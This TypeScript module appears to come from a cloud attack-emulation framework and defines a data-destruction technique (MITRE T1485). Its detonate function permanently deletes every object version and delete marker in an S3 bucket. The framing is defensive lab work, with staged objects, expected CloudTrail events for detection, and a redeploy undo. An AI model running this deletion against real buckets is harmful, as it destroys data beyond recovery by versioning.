import { z } from 'zod';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({ bucket: z.string().min(3).max(63) });

/** Versioning keeps what is deleted; this deletes what versioning kept. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'impact.version-deletion',
  title: 'Delete every version of the objects of a bucket',
  purpose: 'What versioning would bring back is gone; only a copy elsewhere is left.',
  mitre: ['T1485'],
  awsThreatTechniques: ['T1485.A003'],
  sources: [
    {
      title: 'Data Destruction, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1485/',
    },
    {
      title: 'T1485.A003, Threat Technique Catalog for AWS',
      url: 'https://aws-samples.github.io/threat-technique-catalog-for-aws/Techniques/T1485.A003.html',
    },
    {
      title: 'DeleteObject, Amazon S3 API Reference',
      url: 'https://docs.aws.amazon.com/AmazonS3/latest/API/API_DeleteObject.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { bucket: { objects: ['reports/april.csv', 'reports/may.csv'] } },
  needs: ['s3:ListBucketVersions', 's3:DeleteObjectVersion'],
  leaves: [
    { service: 's3.amazonaws.com', name: 'ListObjectVersions', outcome: 'succeeds' },
    { service: 's3.amazonaws.com', name: 'DeleteObject', outcome: 'succeeds', times: 2 },
  ],
  repeatable: false,
  async detonate({ inputs: { bucket }, aws, signal, say }) {
    const { Versions = [], DeleteMarkers = [] } = await aws
      .s3()
      .listObjectVersions({ Bucket: bucket });
    say(`Delete ${Versions.length} versions in ${bucket} for good`);
    for (const { Key, VersionId } of [...Versions, ...DeleteMarkers]) {
      signal.throwIfAborted();
      await aws.s3().deleteObject({ Bucket: bucket, Key, VersionId });
    }
  },
  undo: {
    kind: 'redeploy',
    because:
      'a deleted version is gone for good; the lab lays its objects down again when it is deployed',
  },
};
